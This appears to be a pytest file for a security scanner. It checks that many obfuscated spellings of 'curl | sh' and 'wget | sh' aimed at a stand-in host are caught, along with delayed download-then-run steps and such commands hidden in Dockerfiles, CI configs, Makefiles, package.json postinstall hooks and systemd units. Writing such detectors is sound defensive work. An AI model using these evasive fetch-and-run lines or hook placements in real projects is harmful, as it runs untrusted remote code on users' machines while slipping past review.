"""Shell spellings read as the shell reads them (issue 30, item 8), downloads run in two steps,
and the readers that find command lines inside other formats (item 6) and Dockerfiles (item 7).

No semgrep here: the views are checked against the shipped pipe-to-shell pattern itself (read from
the rule file), so what the view holds is what the rule sees; the end-to-end run with semgrep is
tests/scan/test_scan_hostile_cmdlines.py."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from auditor.model import Category, Severity
from auditor.scan import cmdlines, fetchrun
from auditor.scan.derived import derive
from auditor.scan.dockerfile import readings
from auditor.scan.interface import Origin, ScanTarget
from auditor.scan.shellwords import parse, view

ROOT = Path(__file__).resolve().parents[2]
URL = "https://get.evil.example/i.sh"


def _pipe_patterns() -> list[re.Pattern[str]]:
    doc = yaml.safe_load((ROOT / "policies/semgrep/rules/network/shell.yaml").read_text())
    rule = next(r for r in doc["rules"] if r["id"] == "network.shell.pipe-to-shell")
    return [re.compile(p["pattern-regex"]) for p in rule["patterns"][0]["pattern-either"]]


PIPE = _pipe_patterns()


def _piped(text: str) -> list[int]:
    """The 1-based lines of ``text`` the shipped pipe-to-shell patterns match."""
    return sorted({text.count("\n", 0, m.start()) + 1 for p in PIPE for m in p.finditer(text)})


# each: a script, and the line on which it runs a download through a shell
SPELLINGS = [
    (f"c=curl; $c {URL} | sh\n", 1),
    (f"cu''rl {URL} | s''h\n", 1),
    (f'cu""rl {URL} | "s"h\n', 1),
    (f"c\\url {URL} | \\s\\h\n", 1),
    (f"\\c\\u\\r\\l -s {URL} | bash\n", 1),
    (f"curl${{IFS}}{URL}${{IFS}}|${{IFS}}sh\n", 1),
    (f"curl$IFS{URL}|sh\n", 1),
    (f"IFS=,\ncmd=curl,-s,{URL}\n$cmd | sh\n", 3),
    (f'eval "curl -s {URL} | sh"\n', 1),
    (f"eval 'cu''rl' -s {URL} '|' sh\n", 1),
    (f"x='curl -s {URL} | sh'\neval \"$x\"\n", 2),
    (f"$'\\x63\\x75\\x72\\x6c' {URL} | bash\n", 1),
    (f"$'\\143\\165\\162\\154' {URL} | bash\n", 1),
    (f"$'\\u0063url' {URL} | $'\\x73h'\n", 1),
    (f"alias c='curl -s'\nc {URL} | sh\n", 2),
    (f"$(echo curl) {URL} | bash\n", 1),
    (f"`echo curl` {URL} | bash\n", 1),
    (f"$(printf %s cu rl) {URL} | sh\n", 1),
    (f"a=cu\nb=rl\n$a$b {URL} | sh\n", 3),
    (f'a=cu; b=rl; "${{a}}${{b}}" {URL} | "s""h"\n', 1),
    (f"export T=wget\n$T -qO- {URL} | sh\n", 2),
    (f"readonly T=wget\n${{T}} -qO- {URL} | sh\n", 2),
    (f"${{F:-curl}} {URL} | sh\n", 1),
    (f"${{F-wget}} -qO- {URL} | sh\n", 1),
    (f"sh -c 'x=curl; $x -s {URL} | sh'\n", 1),
    (f"bash -c \"eval 'cu''rl {URL}' | sh\"\n", 1),
    (f"curl -s {URL} \\\n  | sh\n", 1),
    (f"c=curl\nif true; then\n  $c -s {URL} | sudo sh\nfi\n", 3),
    (f"S=sh\ncurl -s {URL} | $S\n", 2),
    (f"c=CURL\n${{c,,}} -s {URL} | sh\n", 2),
    (f"c=xcurlx\n${{c:1:4}} -s {URL} | sh\n", 2),
    (f"c=XcurlX\n${{c: -5:4}} -s {URL} | sh\n", 2),
    (f"c=c_u_r_l\n${{c//_/}} -s {URL} | sh\n", 2),
    (f"c=cXrl\n${{c/X/u}} -s {URL} | sh\n", 2),
    (f"c=curl.exe\n${{c%.exe}} -s {URL} | ${{c#curl.exe}}sh\n", 2),
]


@pytest.mark.parametrize(("script", "line"), SPELLINGS)
def test_spellings_the_shell_reads_as_curl_pipe_sh(script: str, line: int) -> None:
    out = view(script)
    assert line in _piped(out), out
    assert out.count("\n") == script.count("\n")  # the script's line numbers


@pytest.mark.parametrize("script", [
    "name='curl'\necho \"the tool is $name\"\n",
    "# c=curl; $c https://x | sh\necho done\n",
    "cat <<'EOF' > notes.txt\ncu''rl is spelt like that; it's fine\nEOF\n",
    "curl -fsSL -o /opt/i.sh https://get.example/i.sh\n",
    "pip install -e . && pytest -q\n",
    "for f in *.py; do python \"$f\" 2>&1 >/dev/null; done\n",
])
def test_benign_scripts_stay_benign(script: str) -> None:
    assert _piped(view(script)) == []


def test_view_keeps_lines_and_unknown_words() -> None:
    script = "echo \"a\nb\"\ncat <<EOF\nit's $HOME\nEOF\n$UNSET_TOOL --flag\n# end\n"
    out = view(script)
    assert out.count("\n") == script.count("\n")
    lines = out.split("\n")
    assert lines[3] == "it's $HOME" and lines[4] == "EOF"  # a here-document is kept as is
    assert lines[5] == "$UNSET_TOOL --flag" and lines[6] == ""


def test_parse_gives_words_and_redirect_targets() -> None:
    (cmd,) = parse("c=cu'rl'\n\"$c\" -s https://x > /tmp/o\n")[-1:]
    assert cmd.line == 2 and cmd.words == ("curl", "-s", "https://x")
    assert cmd.outputs == ("/tmp/o",)


@pytest.mark.parametrize("script", ["$(", "'unterminated", "${", "eval", "a=(1 2", "<<",
                                    "\\", "`", "$'\\x", "((((", "))))", "\"$(echo \"", ""])
def test_odd_input_never_raises(script: str) -> None:
    view(script)
    parse(script)


# -- a download run in a later command --------------------------------------------------------

@pytest.mark.parametrize(("script", "line"), [
    (f"curl -fsSL -o /tmp/i.sh {URL}\necho ok\nsh /tmp/i.sh\n", 3),
    (f"curl -fsSLo /tmp/i.sh {URL} && bash /tmp/i.sh --yes\n", 1),
    (f"wget -q {URL}\nbash i.sh\n", 2),
    (f"wget -qO /opt/x.py {URL}\npython3 /opt/x.py\n", 2),
    (f"cd /opt && curl -O {URL}\nchmod +x i.sh\n./i.sh\n", 3),
    (f"curl -s {URL} > /tmp/i.sh\n. /tmp/i.sh\n", 2),
    (f"curl -s --output=/usr/local/bin/tool {URL}\nchmod 755 /usr/local/bin/tool\ntool run\n", 3),
    (f"d=/tmp/i.sh\nc\\url -so $d {URL}\ns''h $d\n", 3),
    (f"wget -P /opt/dl {URL}\nsource /opt/dl/i.sh\n", 2),
])
def test_a_download_run_later_is_download_and_run(script: str, line: int) -> None:
    found = list(fetchrun.findings(script))
    assert [(f.line, f.rule, f.category, f.severity) for f in found] == [
        (line, fetchrun.RULE, Category.NETWORK, Severity.CRITICAL)]


@pytest.mark.parametrize("script", [
    f"curl -fsSL -o /tmp/i.sh {URL}\necho 'ab12  /tmp/i.sh' | sha256sum -c -\nsh /tmp/i.sh\n",
    f"curl -o /tmp/i.sh {URL}\ngpg --verify /tmp/i.sh.asc /tmp/i.sh\nsh /tmp/i.sh\n",
    "curl -o data.json https://api.example/data\npython3 train.py data.json\n",
    f"curl -o /tmp/i.sh {URL}\ncat /tmp/i.sh\n",
    "wget https://x.example/install\ninstall -m 755 a /usr/bin/a\n",
    f"curl -s {URL} -o -\n",
])
def test_verified_or_unrun_downloads_are_not(script: str) -> None:
    assert list(fetchrun.findings(script)) == []


# -- Dockerfiles: ADD of a URL, SHELL ----------------------------------------------------------

def _bash(text: str) -> str:
    return next(r.text for r in readings(text) if r.family == "bash")


@pytest.mark.parametrize(("dockerfile", "line"), [
    (f"FROM ubuntu\nADD {URL} /i.sh\nRUN sh /i.sh\n", 3),
    (f"FROM ubuntu\nWORKDIR /opt\nADD {URL} ./\nRUN bash i.sh\n", 4),
    (f"FROM ubuntu\nADD [\"{URL}\", \"/usr/local/bin/setup\"]\n"
     "RUN chmod +x /usr/local/bin/setup && setup\n", 3),
    (f"FROM ubuntu\nADD --chmod=755 {URL} /opt/i.sh\nCMD /opt/i.sh\n", 3),
    (f"FROM ubuntu\nADD {URL} /opt/\nENTRYPOINT [\"/bin/sh\", \"/opt/i.sh\"]\n", 3),
])
def test_add_of_a_url_then_run_is_download_and_run(dockerfile: str, line: int) -> None:
    # (FROM ubuntu is also an image not pinned by a digest: dependency.builtin.image-unpinned)
    found = [f for f in fetchrun.findings(_bash(dockerfile)) if f.rule == fetchrun.RULE]
    assert [f.line for f in found] == [line]


@pytest.mark.parametrize("dockerfile", [
    f"FROM ubuntu\nADD --checksum=sha256:{'a' * 64} {URL} /i.sh\nRUN sh /i.sh\n",
    f"FROM ubuntu\nADD {URL} /i.sh\nFROM ubuntu\nCOPY run.sh /i.sh\nRUN cat /i.sh\n",
    "FROM ubuntu\nADD vendor/i.sh /i.sh\nRUN sh /i.sh\n",
])
def test_pinned_or_local_adds_are_not(dockerfile: str) -> None:
    assert [f for f in fetchrun.findings(_bash(dockerfile)) if f.rule == fetchrun.RULE] == []


def test_shell_python_makes_run_bodies_python() -> None:
    text = ("FROM python:3.12\nSHELL [\"python3\", \"-c\"]\n"
            "RUN import os; os.system('curl https://x | sh')\n"
            "RUN import urllib.request as u; \\\n    exec(u.urlopen('https://x').read())\n"
            "RUN [\"/bin/sh\", \"-c\", \"echo exec form is still a shell\"]\n"
            "FROM alpine\nRUN echo back to sh\n")
    by = {r.family: r for r in readings(text)}
    py = by["python"].text.split("\n")
    assert py[2].startswith("import os; os.system(")
    assert py[3].startswith("import urllib.request as u;") and "exec(u.urlopen" in py[3]
    compile(by["python"].text, "<reading>", "exec")  # valid Python at the file's lines
    sh = by["bash"].text.split("\n")
    assert sh[2] == "" and sh[3] == "" and "exec form" in sh[5] and "back to sh" in sh[7]
    assert (3, 5) in by["python"].covers or (3, 3) in by["python"].covers


@pytest.mark.parametrize(("shell", "family"), [
    ('["/usr/bin/env", "python3", "-c"]', "python"), ('["python3.12", "-c"]', "python"),
    ('["/bin/bash", "-o", "pipefail", "-c"]', "bash"), ('["powershell", "-command"]', None),
])
def test_shell_instruction_runner(shell: str, family: str | None) -> None:
    text = f"FROM x\nSHELL {shell}\nRUN print(1)\n"
    where = {r.family for r in readings(text) if r.text.split("\n")[2].strip()}
    assert where == ({family} if family else set())


# -- command lines inside other formats ------------------------------------------------------

@pytest.mark.parametrize(("path", "text", "line"), [
    ("Makefile", f".RECIPEPREFIX = >\nall:\n> curl -s {URL} | sh\n", 3),
    ("GNUmakefile", f"X := $(shell curl -s {URL} | sh)\n", 1),
    ("build.mk", f"FETCH = curl -s\nall:\n\t-$(FETCH) {URL} | $$(echo sh)\n", 3),
    ("Procfile.dev", f"release: curl -s {URL} | sh\n", 1),
    ("etc/systemd/system/x.service.d/override.conf",
     f"[Service]\nExecStartPost=+/bin/bash -c \\\n  'curl -s {URL} | bash'\n", 2),
    ("x.socket", f"[Socket]\nExecStartPre=/bin/sh -c 'wget -qO- {URL} | sh'\n", 2),
    ("setup.cfg", f"[testenv]\ncommands_pre =\n  sh -c 'curl -s {URL} | sh'\n", 3),
    ("conf.d/engine.conf", f"[program:e]\ncommand = sh -c \"curl -s {URL} | sh\"\n", 2),
    ("Taskfile.yml", f"version: '3'\ntasks:\n  b:\n    cmds:\n      - curl -s {URL} | sh\n", 5),
    (".circleci/config.yml", "jobs:\n  b:\n    steps:\n      - run:\n          name: x\n"
                             f"          command: curl -s {URL} | sh\n", 6),
    ("k8s/pod.yaml", "spec:\n  containers:\n    - name: a\n      command: [\"/bin/sh\", \"-c\"]\n"
                     f"      args: [\"curl -s {URL} | sh\"]\n", 4),
    ("compose.yml", "services:\n  a:\n    healthcheck:\n"
                    f"      test: [\"CMD-SHELL\", \"curl -s {URL} | sh\"]\n", 4),
    (".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: >\n"
                                f"          curl -s {URL}\n          | sh\n", 5),
    ("helm/templates/job.yaml", "spec:\n  image: {{ .Values.image }}\n"
                                f"  command: curl -s {URL} | sh\n", 3),
    ("tools/gen.py", f"import subprocess\nsubprocess.run(f\"curl -s {URL} | sh\", shell=True)\n",
     2),
    ("noxfile.py", f"def t(session):\n    session.run('sh', '-c', 'curl -s {URL} | sh')\n", 2),
    ("cmake/ext.cmake", "ExternalProject_Add(x URL https://e.example/x.tgz URL_HASH SHA256=0\n"
                        f"  PATCH_COMMAND sh -c \"curl -s {URL} | sh\")\n", 2),
    ("web/package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n"
                         f"    \"postinstall\": \"curl -s {URL} | sh\"\n  }}\n}}\n", 5),
    (".devcontainer/devcontainer.json", "{\"image\": \"x\",\n \"initializeCommand\": "
                                        f"[\"bash\", \"-c\", \"curl -s {URL} | bash\"]}}\n", 2),
    ("pyproject.toml", "[project]\nname = 'x'\n\n[tool.poe.tasks]\nlint = \"ruff check\"\n"
                       f"boot = {{shell = \"curl -s {URL} | sh\"}}\n", 6),
    ("pixi.toml", "[tasks]\nstart = \"python app.py\"\n"
                  f"[tasks.setup]\ncmd = \"curl -s {URL} | sh\"\n", 4),
    ("pyproject.toml", "[tool.hatch.envs.default.scripts]\n"
                       f"setup = [\"pip install -e .\", \"curl -s {URL} | sh\"]\n", 2),
    ("justfile", f"set shell := [\"bash\", \"-c\"]\n\nboot:\n    @curl -s {URL} | sh\n", 4),
    ("Jenkinsfile", "pipeline {\n  stages {\n    stage('b') {\n      steps {\n"
                    "        sh '''\n          make\n"
                    f"          curl -s {URL} | sh\n        '''\n      }}\n    }}\n  }}\n}}\n", 7),
    ("ci/build.groovy", f"node {{\n  sh(script: \"wget -qO- {URL} | sh\", label: 'x')\n}}\n", 2),
])
def test_command_lines_in_other_formats_are_read_as_shell(path: str, text: str,
                                                          line: int) -> None:
    family = "yaml" if path.endswith((".yml", ".yaml")) else (
        "python" if path.endswith(".py") else "json" if path.endswith(".json") else None)
    r = cmdlines.reading(path, text, family)
    assert r is not None
    assert line in _piped(view(r.text)), r.text
    assert r.text.count("\n") == text.count("\n")
    assert any(a <= line <= b for a, b in r.covers)


@pytest.mark.parametrize(("path", "text"), [
    ("Makefile", "install:\n\tpython3 -m pip install -e .\n"),
    (".github/workflows/ci.yml", "jobs:\n  t:\n    steps:\n      - run: pytest -q\n"),
    ("tox.ini", "[testenv]\ncommands = pytest {posargs}\n"),
    ("pyproject.toml", "[tool.poe.tasks]\ntest = \"pytest -q\"\n[tool.poe.tasks.lint]\n"
                       "help = \"curl x | sh is bad\"\ncmd = \"ruff check\"\n"),
    ("package.json", "{\"scripts\": {\"build\": \"tsc -p .\"},\n \"description\": \"curl x | sh\"}\n"),
    ("justfile", "test:\n    pytest -q\n"),
])
def test_benign_command_lines_stay_benign(path: str, text: str) -> None:
    family = "yaml" if path.endswith(".yml") else "json" if path.endswith(".json") else None
    r = cmdlines.reading(path, text, family)
    assert r is not None and _piped(view(r.text)) == []


def test_derived_targets_of_a_script_and_a_pth() -> None:
    sh = ScanTarget("b:s.sh", "s.sh", Origin.BUNDLE, "", "bash", f"c=curl\n$c {URL} | sh\n")
    (words,) = derive(sh)
    assert words.family == "bash" and words.derived.endswith("+words")
    assert _piped(words.text) == [2]
    assert words.covers == ((2, 2),)  # the line it rewrote; the others stay with the script
    plain = ScanTarget("b:p.sh", "p.sh", Origin.BUNDLE, "", "bash", "echo \"a b\"  # hi\nls\n")
    assert derive(plain) == []  # nothing spelt otherwise: no second reading
    pth = ScanTarget("b:x.pth", "x.pth", Origin.BUNDLE, "", "python",
                     "/opt/lib\n  import os; os.system('id')\nimportlib_paths\n")
    (code,) = derive(pth)
    assert code.family == "python" and code.covers == ()
    assert code.text == "\nimport os; os.system('id')\n\n"
